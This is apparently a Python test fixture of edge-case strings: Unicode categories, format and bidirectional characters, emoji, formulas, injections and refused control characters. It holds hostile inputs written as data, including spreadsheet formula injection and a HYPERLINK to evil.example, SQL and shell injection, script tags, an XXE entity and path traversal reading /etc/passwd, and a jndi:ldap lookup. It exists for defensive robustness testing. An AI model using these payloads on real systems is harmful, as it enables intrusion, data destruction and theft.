"""Texts that have broken programs, category by category, made from Unicode's own data."""

import unicodedata
from collections import defaultdict
from collections.abc import Iterator, Mapping
from itertools import chain

OF_A_CATEGORY = 24
PLANES = [range(0x3400), range(0xA000, 0x10000), range(0x10000, 0x20000), range(0xE0000, 0xE0200)]
"""Ideographs are named below; the rest of Unicode is empty, or for private use."""


def by_category() -> dict[str, str]:
    """For each general category of Unicode the characters at even distances, as one text."""
    found: defaultdict[str, list[str]] = defaultdict(list)
    for point in chain(*PLANES):
        found[unicodedata.category(chr(point))].append(chr(point))
    return {
        f"category {category}": "x" + "".join(them[:: max(1, len(them) // OF_A_CATEGORY)]) + "x"
        for category, them in found.items()
        if category not in {"Cc", "Cs"}
    }


def format_characters() -> dict[str, str]:
    """What turns text round, joins or hides it: each of them alone, since each has its own victims."""
    points = [0xAD, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070)]
    points += [0xFEFF, *range(0xFFF9, 0xFFFC), 0x1BCA0, 0xE0001, 0xE0041]
    return {f"format U+{point:04X}": f"张{chr(point)}三" for point in points}


BEYOND_THE_BASIC_PLANE = {
    f"ideograph U+{point:05X}": f"{chr(point)}某{chr(point)}"
    for point in (0x3400, 0x4DBF, 0x9FFF, 0xF900, 0x20000, 0x2A6DF, 0x2B740, 0x2CEB0, 0x30000, 0x323AF)
}
NO_CHARACTERS = {
    f"noncharacter U+{point:04X}": f"{chr(point)}甲{chr(point)}"
    for point in (0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF)
}
ALIKE = {
    "composed": "é ñ Å ﬁ ½ 가",
    "decomposed": "é ñ Å fi 1⁄2 가",
    "compatible": "Ａ１ｱ㌀㈱ⅷ²™ﷺ",
    "cases that grow": "ßŉİǰΐﬃ ẞ",
    "dotless": "ıIiİ",
    "many marks": "z" + "\u0336\u0489\u035f" * 100,
}
EMOJI = {
    "family": "👨\u200d👩\u200d👧\u200d👦",
    "flags": "🇨🇳🇭🇰🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "skin and keycaps": "👍🏽 1\ufe0f\u20e3 ❤\ufe0f",
}
DIRECTIONS = {
    "right to left": "مرحبا עולם 2026",
    "overridden": "\u202egnp.txt\u202c",
    "isolated": "\u2067أ\u2069\u2066b\u2069",
    "Thai and Tibetan": "กำ ไทย བོད་ཡིག ᠮᠣᠩᠭᠣᠯ ئۇيغۇر ꆈꌠ",
}
FORMULAS = {
    f"formula {start!r}": f"{start}1+1"
    for start in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", "\u200b=", " =", "\ufeff=", "'=")
} | {"command": "=cmd|' /C calc'!A0", "link": '=HYPERLINK("http://evil.example","x")'}
INJECTIONS = {
    "SQL": "'; DROP TABLE enrollments; --",
    "SQL of a comment": "1/**/OR/**/1=1 --",
    "dollar quotes": "$$;SELECT 1;$$ $1 ${1}",
    "end of COPY": "\\.",
    "null of COPY": "\\N",
    "backslashes": "\\ \\\\ \\' \\\" \\x00 \\u0000 \\n",
    "quotes": "\"' `´‘’“”„«»",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;&amp;&#0;&nbsp;&#x1F600;",
    "XML": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "a cell's own escape": "_x0041_ _x000D_ _x005F_",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0} %s%n%d",
    "shell": "$(id) `id` ; id | id && id > /dev/null",
    "look-up": "${jndi:ldap://evil.example/x}",
    "path": "../../../../etc/passwd",
    "address": "file:///etc/passwd http://127.0.0.1:5432/ //evil.example",
    "CSV": 'a,"b""c",d;e',
    "JSON": '{"a":[1,{"b":null}]}',
    "percent": "%00 %2e%2e%2f %ff %E4%BD%A0",
}
WORDS = {
    f"word {word}": word
    for word in (
        *("NULL", "null", "None", "nil", "undefined", "NaN", "Infinity", "true", "False", "0", "-0"),
        *("1e400", "0x10", "00123", "1.0", "1,000", "1/2", "2026-02-30", "٣٤", "１２", "一二三", ".", ".."),
        *("CON", "constructor", "__proto__", "toString", "if(0)", "N/A"),
    )
}
BLANKS = {"ideographic space": "　甲　", "no-break space": "\u00a0甲\u00a0", "outer spaces": "  甲  "}
LONG = {"longest": "长" * 500, "longest beyond the basic plane": "\U00020000" * 500}

STORED: Mapping[str, str] = {
    **by_category(),
    **format_characters(),
    **BEYOND_THE_BASIC_PLANE,
    **NO_CHARACTERS,
    **ALIKE,
    **EMOJI,
    **DIRECTIONS,
    **FORMULAS,
    **INJECTIONS,
    **WORDS,
    **BLANKS,
    **LONG,
}
"""Nothing in these is forbidden: they come back as they were sent."""


def _refused() -> Iterator[tuple[str, str]]:
    for point in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"control U+{point:04X}", f"甲{chr(point)}乙"
    yield "a control at the end", "甲乙\n"
    yield "a terminal's escape", "\x1b[31m红\x1b[0m"


REFUSED: Mapping[str, str] = dict(_refused())
"""Control characters, which no text of this platform may hold."""
SHORTEST_TOO_LONG = 501
